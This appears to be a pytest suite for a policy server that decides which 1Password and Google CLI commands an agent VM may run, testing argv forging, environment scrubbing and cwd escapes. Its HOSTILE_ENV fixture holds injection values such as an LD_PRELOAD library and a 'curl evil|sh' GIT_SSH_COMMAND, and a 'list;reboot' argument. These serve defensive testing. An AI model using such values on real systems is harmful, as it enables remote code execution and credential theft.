"""CLI decisions: the op and gog anchors mean what they say; argv, env and cwd can't be forged."""

from __future__ import annotations

import os
import textwrap
from pathlib import Path

import pytest

from carapace.server.policy import (
    BASE_ENV,
    CliDecision,
    Policy,
    argv_matches,
    decide_cli,
    load_policy,
    load_policy_file,
)

ANCHORS = Path(__file__).resolve().parents[3].parent / "shared" / "anchor-policies"
TOKEN = "ops_0123456789abcdefghijklmnopqrstuvwxyz"


def anchor(name: str) -> Policy:
    path = ANCHORS / name
    if not path.is_file():
        pytest.skip(f"anchor policy {path} not found")
    return load_policy_file(path)


@pytest.fixture(scope="module")
def op() -> Policy:
    return anchor("1password.yaml")


@pytest.fixture(scope="module")
def gog() -> Policy:
    return anchor("gogcli.yaml")


def run(
    policy: Policy,
    tool: str,
    line: list[str],
    cwd: bytes = b"/home/vm/work",
    env: list[tuple[bytes, bytes]] | None = None,
) -> CliDecision:
    return decide_cli(policy, "default", tool, [a.encode() for a in line], cwd, env or [])


# -- the 1password anchor -------------------------------------------------------------


@pytest.mark.parametrize(
    ("line", "rule"),
    [
        (["item", "get", "foo"], 'tools.op.argv_allow_patterns[0] "item get *"'),
        (["item", "get", "foo", "--vault", "Private"], "argv_allow_patterns[0]"),
        (["item", "get", "My Login", "--fields", "password"], "argv_allow_patterns[0]"),
        (["item", "get"], "argv_allow_patterns[0]"),
        (["item", "list"], 'tools.op.argv_allow_patterns[1] "item list*"'),
        (["item", "list", "--vault", "x"], "argv_allow_patterns[1]"),
        (["item", "listx"], "argv_allow_patterns[1]"),  # prefix match, as the anchor wrote it
        (["vault", "list"], "argv_allow_patterns[2]"),
        (["document", "get", "doc1"], "argv_allow_patterns[3]"),
        (["--version"], "argv_allow_patterns[4]"),
        (["whoami"], "argv_allow_patterns[5]"),
    ],
)
def test_op_allowed(op: Policy, line: list[str], rule: str) -> None:
    decision = run(op, "op", line)
    assert decision.allow, decision
    assert rule in decision.rule
    assert decision.binary == "/usr/bin/op"
    assert decision.argv == [b"/usr/bin/op", *(a.encode() for a in line)]


@pytest.mark.parametrize(
    ("line", "rule"),
    [
        (["item", "create", "x"], 'tools.op.argv_deny_patterns[0] "item create *"'),
        (["item", "edit", "x", "password=new"], "argv_deny_patterns[1]"),
        (["item", "delete", "foo"], 'tools.op.argv_deny_patterns[2] "item delete *"'),
        (["item", "delete"], "argv_deny_patterns[2]"),
        (["vault", "create", "v"], "argv_deny_patterns[3]"),
        (["vault", "delete", "v"], "argv_deny_patterns[4]"),
        (["document", "create", "f"], "argv_deny_patterns[5]"),
        (["document", "edit", "f"], "argv_deny_patterns[6]"),
        (["document", "delete", "f"], "argv_deny_patterns[7]"),
        (["signin"], "default deny: no tools.op.argv_allow_patterns entry matches"),
        (["whoami", "--account", "x"], "default deny"),
        (["--version", "x"], "default deny"),
        (["account", "add"], "default deny"),
        (["--account", "x", "item", "delete", "y"], "default deny"),
        ([], "default deny"),
    ],
)
def test_op_denied(op: Policy, line: list[str], rule: str) -> None:
    decision = run(op, "op", line)
    assert not decision.allow
    assert rule in decision.rule
    assert decision.argv == [] and decision.env == {}


# -- the gog anchor --------------------------------------------------------------------


@pytest.mark.parametrize(
    "line",
    [
        ["calendar"],
        ["calendar", "events", "list"],
        ["calendar", "events", "list", "--from", "today"],
        ["calendar", "list"],
        ["calendar", "create", "Lunch"],
        ["calendar", "update", "ev1", "--title", "Dinner at 8"],
        ["calendar", "colors"],
        ["--help"],
        ["help"],
        ["calendar", "--help"],
        ["calendar", "help"],
        ["calendar", "events", "--help"],
        ["--version"],
        ["auth", "list"],
        ["auth", "status"],
        ["auth", "services"],
    ],
)
def test_gog_allowed(gog: Policy, line: list[str]) -> None:
    assert run(gog, "gog", line).allow


@pytest.mark.parametrize(
    ("line", "why"),
    [
        (["calendar", "delete", "x"], 'argv_deny_patterns[0] "calendar delete *"'),
        (["auth", "add", "x"], 'argv_deny_patterns[1] "auth add *"'),
        (["auth", "remove", "me@example.com"], "argv_deny_patterns[2]"),
        (["auth", "credentials", "set"], "argv_deny_patterns[3]"),
        (["auth", "tokens", "list"], "argv_deny_patterns[4]"),
        (["auth", "service-account", "x"], "argv_deny_patterns[5]"),
        (["gmail", "send", "--to", "a@b.c"], "default deny"),
        (["gmail", "search", "x"], "default deny"),
        (["auth", "list", "--json"], "default deny"),
        (["calendar", "colors", "x"], "default deny"),
        (["drive", "ls"], "default deny"),
    ],
)
def test_gog_denied(gog: Policy, line: list[str], why: str) -> None:
    decision = run(gog, "gog", line)
    assert not decision.allow
    assert why in decision.rule


def test_gog_env_inject(gog: Policy) -> None:
    decision = run(gog, "gog", ["auth", "list"])
    assert decision.env == {
        b"PATH": b"/usr/local/bin:/usr/bin:/bin",
        b"LANG": b"C.UTF-8",
        b"LC_ALL": b"C.UTF-8",
        b"HOME": b"/home/<your-username>",
        b"GOG_KEYRING_BACKEND": b"file",
        b"GOG_KEYRING_PASSWORD": b"<your-keyring-password>",
        b"GOG_ACCOUNT": b"<your-google-account>",
    }
    assert decision.cwd == b"/"
    assert b"your-keyring-password" not in repr(decision).encode()


# -- attacks: argv forging ------------------------------------------------------------


FORGE = """
tools:
  t:
    type: cli
    binary: /usr/bin/t
    argv_allow_patterns: ["item get *", "status", "show 'My Item'", "list*", ""]
    argv_deny_patterns: ["item get --reveal*", "* --delete*"]
"""


@pytest.fixture(scope="module")
def forge() -> Policy:
    return load_policy(FORGE)


@pytest.mark.parametrize(
    "line",
    [
        ["item get x"],  # one argument posing as three words
        ["item get *"],
        ["item", "get x"],
        ["item get", "x"],
        ["item'", "'get", "x"],
        ["item", "get' 'x"],
        ["status "],
        [" status"],
        ["status", ""],
        ["'status'"],
        ['"status"'],
        ["show", "My", "Item"],  # the pattern names ONE argument "My Item"
        ["show", "'My Item'"],
        ["lis", "t"],
        ["list;reboot"],
        ["list x"],
    ],
)
def test_space_and_quote_forging_denied(forge: Policy, line: list[str]) -> None:
    decision = run(forge, "t", line)
    assert not decision.allow, (line, decision.rule)


@pytest.mark.parametrize(
    "line",
    [
        ["item", "get", "x"],
        ["item", "get", "x y"],
        ["item", "get", "it's"],
        ["status"],
        ["show", "My Item"],
        ["list"],
        ["listing", "--all"],
        [],
    ],
)
def test_quoted_join_allows_intended(forge: Policy, line: list[str]) -> None:
    assert run(forge, "t", line).allow, line


def test_deny_wins_even_inside_star(forge: Policy) -> None:
    assert not run(forge, "t", ["item", "get", "--reveal"]).allow
    assert not run(forge, "t", ["item", "get", "x", "--delete"]).allow
    assert not run(forge, "t", ["list", "--delete-all"]).allow


def test_argv_matches_semantics() -> None:
    assert argv_matches(["item", "get", "a", "b"], "item get *")
    assert argv_matches(["item", "get"], "item get *")
    assert not argv_matches(["item", "getx"], "item get *")
    assert not argv_matches(["item get x"], "item get *")
    assert argv_matches([], "")
    assert argv_matches([], "*")  # the empty line: "*" matches a bare command
    assert not argv_matches(["x"], "")
    assert argv_matches(["x"], "*")
    assert argv_matches(["a b"], "'a b'")
    assert not argv_matches(["Item", "get", "x"], "item get *")  # case-sensitive


@pytest.mark.parametrize(
    ("raw", "words"),
    [
        (b"\xff", "argument 3 is not valid UTF-8"),
        (b"a\x00b", "control character"),
        (b"a\nb", "control character"),
        (b"a\rb", "control character"),
        (b"\x1b[31m", "control character"),
        (b"a\x7f", "control character"),
        ("a\u0085b".encode(), "control character"),
        (b"\xed\xa0\x80", "not valid UTF-8"),  # an encoded surrogate
    ],
)
def test_bad_argument_bytes(forge: Policy, raw: bytes, words: str) -> None:
    decision = decide_cli(forge, "default", "t", [b"item", b"get", raw], b"/", [])
    assert not decision.allow
    assert words in decision.reason
    assert decision.code == "bad_request"


def test_tab_is_allowed_but_quoted(forge: Policy) -> None:
    assert decide_cli(forge, "default", "t", [b"item", b"get", b"a\tb"], b"/", []).allow
    assert not decide_cli(forge, "default", "t", [b"item\tget", b"x"], b"/", []).allow


# -- attacks: environment ----------------------------------------------------------------


ENVY = f"""
tools:
  t:
    type: cli
    binary: /usr/bin/t
    argv_allow_patterns: ["*"]
    env_passthrough: [TERM, OP_FORMAT, MY_SETTING]
    env_inject: {{OP_SERVICE_ACCOUNT_TOKEN: "{TOKEN}", MY_SETTING: host-wins}}
"""

HOSTILE_ENV = [
    (b"LD_PRELOAD", b"/tmp/evil.so"),
    (b"LD_LIBRARY_PATH", b"/tmp"),
    (b"PATH", b"/tmp/evil-bin:/usr/bin"),
    (b"GIT_SSH_COMMAND", b"sh -c 'curl evil|sh'"),
    (b"BASH_ENV", b"/tmp/evil.sh"),
    (b"ENV", b"/tmp/evil.sh"),
    (b"PYTHONPATH", b"/tmp"),
    (b"HOME", b"/tmp/fakehome"),
    (b"HTTPS_PROXY", b"http://10.0.0.2:8080"),
    (b"OP_SERVICE_ACCOUNT_TOKEN", b"vm-chosen-token"),
    (b"LANG", b"xx_EVIL"),
    (b"LC_ALL", b"xx_EVIL"),
    (b"TERM", b"xterm-256color"),
    (b"OP_FORMAT", b"json"),
    (b"MY_SETTING", b"vm-value"),
    (b"term", b"lowercase-is-another-name"),
]


def test_env_is_scrubbed() -> None:
    policy = load_policy(ENVY)
    decision = decide_cli(policy, "default", "t", [b"x"], b"/", HOSTILE_ENV)
    assert decision.allow
    assert decision.env == {
        b"PATH": BASE_ENV["PATH"].encode(),
        b"LANG": b"C.UTF-8",
        b"LC_ALL": b"C.UTF-8",
        b"TERM": b"xterm-256color",
        b"OP_FORMAT": b"json",
        b"MY_SETTING": b"host-wins",  # env_inject wins over passthrough
        b"OP_SERVICE_ACCOUNT_TOKEN": TOKEN.encode(),  # the VM cannot override it
    }
    assert TOKEN not in repr(decision)


def test_env_without_passthrough_is_base_only(op: Policy) -> None:
    decision = run(op, "op", ["whoami"], env=HOSTILE_ENV)
    assert decision.env == {
        b"PATH": b"/usr/local/bin:/usr/bin:/bin",
        b"LANG": b"C.UTF-8",
        b"LC_ALL": b"C.UTF-8",
        b"HOME": b"/home/<your-username>",
    }


def test_passthrough_missing_in_vm_is_simply_absent() -> None:
    decision = decide_cli(load_policy(ENVY), "default", "t", [b"x"], b"/", [])
    assert b"TERM" not in decision.env


def test_passthrough_value_with_nul_denied() -> None:
    decision = decide_cli(load_policy(ENVY), "default", "t", [b"x"], b"/", [(b"TERM", b"a\0b")])
    assert not decision.allow


# -- attacks: cwd ------------------------------------------------------------------------


@pytest.fixture
def tree(tmp_path: Path) -> Path:
    (tmp_path / "allowed" / "sub").mkdir(parents=True)
    (tmp_path / "allowedx").mkdir()
    (tmp_path / "outside").mkdir()
    (tmp_path / "allowed" / "escape").symlink_to(tmp_path / "outside")
    (tmp_path / "allowed" / "inner").symlink_to(tmp_path / "allowed" / "sub")
    (tmp_path / "link-to-allowed").symlink_to(tmp_path / "allowed")
    return tmp_path


def cwd_policy(allowed: list[str]) -> Policy:
    dirs = ", ".join(f'"{d}"' for d in allowed)
    return load_policy(textwrap.dedent(f"""
        tools:
          t:
            type: cli
            binary: /usr/bin/t
            argv_allow_patterns: ["*"]
            cwd_allowed: [{dirs}]
        """))


@pytest.mark.parametrize(
    ("requested", "resolved"),
    [
        ("allowed", "allowed"),
        ("allowed/sub", "allowed/sub"),
        ("allowed/inner", "allowed/sub"),
        ("allowed/sub/..", "allowed"),
        ("link-to-allowed/sub", "allowed/sub"),
    ],
)
def test_cwd_inside_allowed(tree: Path, requested: str, resolved: str) -> None:
    policy = cwd_policy([str(tree / "allowed")])
    decision = decide_cli(policy, "default", "t", [b"x"], os.fsencode(tree / requested), [])
    assert decision.allow, decision
    assert decision.cwd == os.fsencode(os.path.realpath(tree / resolved))
    assert "cwd_allowed[0]" in decision.reason


@pytest.mark.parametrize(
    "requested",
    ["outside", "allowed/escape", "allowedx", "allowed/..", "allowed/../outside",
     "allowed/missing", "."],
)
def test_cwd_outside_allowed(tree: Path, requested: str) -> None:
    policy = cwd_policy([str(tree / "allowed")])
    decision = decide_cli(policy, "default", "t", [b"x"], os.fsencode(tree / requested), [])
    assert not decision.allow, requested
    assert "cwd_allowed" in decision.rule


def test_cwd_must_be_absolute(tree: Path) -> None:
    policy = cwd_policy([str(tree / "allowed")])
    for cwd in (b"allowed", b"", b"/tmp\0/x"):
        assert not decide_cli(policy, "default", "t", [b"x"], cwd, []).allow


def test_cwd_allowed_entry_that_is_a_symlink(tree: Path) -> None:
    policy = cwd_policy([str(tree / "link-to-allowed")])
    decision = decide_cli(policy, "default", "t", [b"x"], os.fsencode(tree / "allowed/sub"), [])
    assert decision.allow


def test_cwd_missing_allowed_entry_is_skipped(tree: Path) -> None:
    policy = cwd_policy([str(tree / "gone"), str(tree / "allowed")])
    decision = decide_cli(policy, "default", "t", [b"x"], os.fsencode(tree / "allowed"), [])
    assert decision.allow and "cwd_allowed[1]" in decision.reason


def test_cwd_component_prefix_with_fake_realpath() -> None:
    policy = cwd_policy(["/home/a"])

    def ident(path: bytes) -> bytes:  # a realpath that resolves nothing
        return path

    def allowed(cwd: bytes) -> bool:
        return decide_cli(policy, "default", "t", [b"x"], cwd, [], realpath=ident).allow

    assert allowed(b"/home/a")
    assert allowed(b"/home/a/b/c")
    assert not allowed(b"/home/ab")
    assert not allowed(b"/home")
    assert not allowed(b"/")


def test_cwd_root_allowed() -> None:
    policy = cwd_policy(["/"])
    decision = decide_cli(policy, "default", "t", [b"x"], b"/etc", [], realpath=lambda p: p)
    assert decision.allow and decision.cwd == b"/etc"


def test_no_cwd_allowed_runs_in_root(op: Policy, tmp_path: Path) -> None:
    decision = run(op, "op", ["whoami"], cwd=os.fsencode(tmp_path))
    assert decision.cwd == b"/"


# -- grants -------------------------------------------------------------------------------


def test_cli_grants() -> None:
    policy = load_policy(
        "agents: {alice: {tools: [t]}}\n"
        "tools:\n  t: {type: cli, binary: /usr/bin/t, argv_allow_patterns: ['*']}\n"
    )
    assert decide_cli(policy, "alice", "t", [b"x"], b"/", []).allow
    denied = decide_cli(policy, "bob", "t", [b"x"], b"/", [])
    assert not denied.allow and "agents" in denied.rule
    unknown = decide_cli(policy, "alice", "nope", [b"x"], b"/", [])
    assert not unknown.allow and unknown.code == "unknown_tool"
